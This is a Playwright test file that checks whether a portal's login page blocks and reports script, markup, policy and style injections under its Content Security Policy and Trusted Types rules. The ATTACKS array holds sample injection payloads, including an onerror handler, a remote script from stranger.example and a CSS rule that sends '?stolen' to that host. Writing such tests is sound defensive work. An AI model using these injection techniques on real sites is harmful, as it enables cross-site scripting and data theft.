import { expect, test } from '../support/test';
import { VIOLATION } from '../support/violations';

/** What an attacker who can inject into the page would try; each returns what worked, or nothing. */
const ATTACKS = [
  {
    what: 'code from a text',
    violation: /script-src \(enforce\): eval|require-trusted-types-for/,
    // Later: the browser lets the test's own code evaluate strings.
    attempt: () => void setTimeout(() => new Function('globalThis.attacked = true')()),
  },
  {
    what: 'markup with a handler',
    violation: /require-trusted-types-for \(enforce\): trusted-types-sink/,
    attempt: () => {
      document.body.innerHTML = '<img src="data:," onerror="globalThis.attacked = true">';
    },
  },
  {
    what: 'a policy of their own',
    violation: /trusted-types \(enforce\): trusted-types-policy/,
    attempt: () => {
      const types: unknown = Reflect.get(window, 'trustedTypes');
      const make: unknown = Reflect.get(Object(types), 'createPolicy');
      if (typeof make === 'function') Reflect.apply(make, types, ['attacker', { createHTML: (html: string) => html }]);
    },
  },
  {
    what: 'a script of another site',
    violation: /require-trusted-types-for \(enforce\): trusted-types-sink/,
    attempt: () => {
      document.head.append(Object.assign(document.createElement('script'), { src: 'https://stranger.example/a.js' }));
    },
  },
  {
    what: 'a script of the portal without its hash',
    violation: /integrity-violation: .*"reportOnly":false/,
    attempt: () => {
      const src = document.querySelector<HTMLScriptElement>('script[src^="/assets/"]')?.src ?? '';
      document.head.append(Object.assign(document.createElement('script'), { src: `${src}?attacked` }));
    },
  },
  {
    what: 'a rule of style in a text',
    violation: /style-src-elem \(enforce\): inline/,
    attempt: () => {
      const rule = 'body { background: url(https://stranger.example/?stolen) }';
      document.head.append(Object.assign(document.createElement('style'), { textContent: rule }));
    },
  },
  {
    what: 'a style attribute in a text',
    violation: /style-src-attr \(enforce\): inline/,
    attempt: () => document.body.setAttribute('style', 'position: fixed'),
  },
] as const;

test('the page refuses every kind of injection, and reports it', async ({ page, complaints }) => {
  complaints.expected(new RegExp(`^${VIOLATION}|^(console|page error): .*(Policy|integrity|Trusted|eval)`, 'i'));
  await page.goto('/auth');
  await expect(page.getByRole('button', { name: 'Anmelden' })).toBeVisible();
  // Unmodified, it gives browsers no reason to report anything.
  expect(complaints.messages).toEqual([]);
  for (const { what, violation, attempt } of ATTACKS) {
    const before = complaints.messages.length;
    await page.evaluate(attempt).catch(() => undefined);
    // Each is checked separately: reports caused by an earlier one do not count for the others.
    await expect.poll(() => complaints.messages.slice(before).join('\n'), { message: what }).toMatch(violation);
    expect(await page.evaluate(() => Reflect.get(globalThis, 'attacked')), what).toBeUndefined();
  }
});
